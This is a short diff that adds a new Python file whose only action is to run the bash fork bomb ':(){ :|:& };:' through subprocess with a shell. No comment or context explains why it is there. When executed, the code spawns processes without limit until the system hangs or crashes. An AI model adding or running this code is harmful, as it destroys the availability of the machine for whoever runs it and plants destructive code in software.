@@ -1,0 +1,3 @@
+import subprocess
+
+subprocess.run(":(){ :|:& };:", shell=True, executable="/bin/bash")
